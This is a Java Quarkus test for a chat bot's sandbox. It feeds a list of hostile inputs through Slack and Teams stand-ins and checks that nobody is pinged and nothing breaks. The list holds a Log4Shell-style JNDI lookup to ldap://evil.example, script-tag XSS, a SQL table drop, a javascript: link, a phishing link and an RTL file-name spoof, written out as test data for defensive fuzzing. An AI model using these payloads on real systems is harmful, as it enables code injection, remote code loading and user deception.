package org.parley.attack;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.parley.conversation.command.CommandBook;
import org.parley.running.Seat;
import org.parley.sandbox.page.Playground;
import org.parley.testing.PracticeSandbox;

/**
 * Hostile words, typed by real hands into the platforms of the sandbox, through the real SDKs and
 * back: nobody is notified, nothing is refused, nothing fails.
 */
@QuarkusTest
@TestProfile(HostileClientsTest.Fresh.class)
class HostileClientsTest {
  /** A sandbox of its own. */
  public static class Fresh extends PracticeSandbox {}

  private static final List<String> WORDS =
      List.of(
          "<!channel> <!here> @channel",
          "<@U0HBANA> <https://evil.example|your bank>",
          "[x](javascript:alert(1)) <at>Paula</at>",
          "*b* _i_ ~s~ `c` > q",
          "\u202egnp.exe \u200b \ud83d\udc69\u200d\ud83d\udc67",
          "a\u0000b\u0007 \ud83d \udc00",
          "{0} ''{'x'}'' %s ${jndi:ldap://evil.example/x}",
          "<script>alert(1)</script> &lt;!channel&gt;",
          "'; drop table person; -- =HYPERLINK(\"x\")",
          "x".repeat(3_000));

  @Inject Playground playground;
  @Inject CommandBook book;

  private record Place(String platform, String workspace, String person, String conversation) {}

  private static final Place SLACK = new Place("slack", "T0HARBOUR", "U0HBANA", "C0HBCLEAN");

  private static JsonPath act(Place at, String kind, String target, Object detail) {
    return given()
        .contentType(ContentType.JSON)
        .body(
            Map.of(
                "platform", at.platform(),
                "workspace", at.workspace(),
                "person", at.person(),
                "conversation", at.conversation(),
                "kind", kind,
                "target", target,
                "detail", detail))
        .post("/sandbox/api/act")
        .then()
        .statusCode(200)
        .extract()
        .jsonPath();
  }

  private static void type(Place at, String line) {
    var came = act(at, "TYPE", "", Map.of("text", line));
    assertThat(came.getString("problem")).as(line).isEmpty();
  }

  private static String dialog(Place at) {
    return given()
        .queryParam("platform", at.platform())
        .queryParam("workspace", at.workspace())
        .queryParam("conversation", at.conversation())
        .queryParam("person", at.person())
        .get("/sandbox/api/sight")
        .jsonPath()
        .getString("dialog.id");
  }

  private void everythingIsTypedAt(Place at, String before) {
    for (var spec : book.specs()) {
      for (var words : WORDS) {
        type(at, before + spec.word() + " " + words);
        if (dialog(at) != null) {
          act(at, "CLOSE", dialog(at), Map.of());
        }
      }
    }
  }

  private void aPartnershipIsNamed(String words) {
    type(SLACK, "/partnership new");
    var name = words.substring(0, Math.min(70, words.length()));
    var sent =
        act(
            SLACK,
            "SUBMIT",
            dialog(SLACK),
            Map.of("name", name, "issue", words, "why", words, "organisation", name));
    assertThat(sent.getString("problem")).as(words).isEmpty();
    if (dialog(SLACK) != null) {
      act(SLACK, "CLOSE", dialog(SLACK), Map.of());
    }
  }

  @Test
  void hostileWordsThroughRealClientsNotifyNobodyAndBreakNothing() {
    Awaitility.await()
        .atMost(Duration.ofSeconds(30))
        .until(() -> given().get("/q/health/ready").statusCode() == 200);
    assertThat(act(SLACK, "INSTALL", "", Map.of()).getString("problem")).isEmpty();
    act(SLACK, "ADD_BOT", "", Map.of());
    WORDS.stream().filter(it -> it.length() < 2_000).forEach(this::aPartnershipIsNamed);
    everythingIsTypedAt(SLACK, "/partnership ");
    var teams = teamsChat();
    act(teams, "ADD_BOT", "", Map.of());
    everythingIsTypedAt(teams, "");
    var all = playground.standIns().deliveries().since(0);
    assertThat(all).hasSizeGreaterThan(WORDS.size() * 10);
    assertThat(all).allSatisfy(it -> assertThat(it.delivery().pings()).isEmpty());
    assertThat(all)
        .extracting(it -> it.delivery().text())
        .noneMatch(it -> it.contains("went wrong") || it.contains("\u202e"));
    assertThat(all).anySatisfy(it -> assertThat(it.delivery().platform()).isEqualTo("teams"));
  }

  private static Place teamsChat() {
    return new Place("teams", Seat.PAULA.workspace(), Seat.PAULA.person(), Seat.PAULA.personal());
  }
}
